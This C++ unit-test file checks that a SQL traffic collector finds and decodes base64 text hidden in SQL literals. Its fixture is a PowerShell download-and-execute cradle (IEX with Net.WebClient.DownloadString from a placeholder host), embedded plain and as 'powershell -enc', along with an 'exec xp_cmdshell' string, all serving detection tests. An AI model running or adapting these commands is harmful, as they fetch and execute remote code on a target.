// Base64 in literals.
#include <gtest/gtest.h>

#include "collector.h"

namespace querytap::sql::test {
namespace {

std::string base64(std::string_view text, bool wide) {
    constexpr std::string_view kAlphabet =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    const std::string bytes = wide ? encode(text, Encoding::kUtf16le) : std::string(text);
    std::string out;
    std::uint32_t bits = 0;
    int count = 0;
    for (const char byte : bytes) {
        bits = bits << 8 | static_cast<unsigned char>(byte);
        for (count += 8; count >= 6; count -= 6)
            out += kAlphabet[bits >> (count - 6) & 63];
    }
    if (count > 0) out += kAlphabet[bits << (6 - count) & 63];
    while (out.size() % 4 != 0)
        out += '=';
    return out;
}

constexpr std::string_view kCommand = "IEX (New-Object Net.WebClient).DownloadString('http://x/')";

struct Case {
    const char* name;
    std::string sql;
    std::string decoded;
};

std::vector<Case> cases() {
    const std::string plain = base64(kCommand, false);
    const std::string wide = base64(kCommand, true);
    const std::string line = std::string(kCommand) + "\n";
    return {
        {"plain", "exec p '" + plain + "'", line},
        {"UTF-16LE", "exec p 'powershell -enc " + wide + "'", line},
        {"letters beyond ASCII",
         "select '" + base64("na\xc3\xafve words, long enough \xe2\x82\xac", true) + "'", ""},
        {"they may follow", "select '" + base64("words, long enough \xe2\x82\xac", true) + "'",
         "words, long enough \xe2\x82\xac\n"},
        {"two in one literal", "select '" + plain + " " + wide + "'", line + line},
        {"folded", "select '" + wide.substr(0, 20) + "'+'" + wide.substr(20) + "'", line},
        {"in quotes inside a literal", "select 'xs:base64Binary(\"" + plain + "\")'", line},
        {"in a text that is executed", "exec('select ''" + plain + "''')", line + line},
        {"lines", "select '" + wide.substr(0, 76) + "\r\n" + wide.substr(76) + "'", line},
        {"short", "select '" + base64("exec xp_cmdshell 'd'", false) + "'", ""},
        {"words are none", "select 'Donaudampfschifffahrtsgesellschaftskapitaen'", ""},
        {"numbers are none", "select '" + std::string(200, '7') + "'", ""},
        {"a picture", "select 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk'", ""},
        {"a text that turns into something else",
         "select '" + base64("twenty-four plain bytes, \x01\x02 and then none", false) + "'",
         "twenty-four plain bytes, \n"},
        {"no literal", "select " + plain, ""},
        {"not decoded twice", "select '" + base64(plain, false) + "'", plain + "\n"},
    };
}

TEST(Base64, ReadableTextIsShown) {
    for (const Case& tested : cases()) {
        const std::string bytes = encode(tested.sql, Encoding::kUtf16le);
        EXPECT_EQ(run(bytes, Encoding::kUtf16le).decoded, tested.decoded) << tested.name;
    }
}

TEST(Base64, CutsDoNotMatter) {
    for (const Case& tested : cases()) {
        std::vector<std::size_t> all;
        for (std::size_t cut = 0; cut <= tested.sql.size(); ++cut) {
            EXPECT_EQ(run(tested.sql, Encoding::kSingleByte, {cut}).decoded,
                      run(tested.sql, Encoding::kSingleByte).decoded)
                << tested.name << " cut at " << cut;
            all.push_back(cut);
        }
        EXPECT_EQ(run(tested.sql, Encoding::kSingleByte, all).decoded,
                  run(tested.sql, Encoding::kSingleByte).decoded)
            << tested.name;
    }
}

}  // namespace
}  // namespace querytap::sql::test
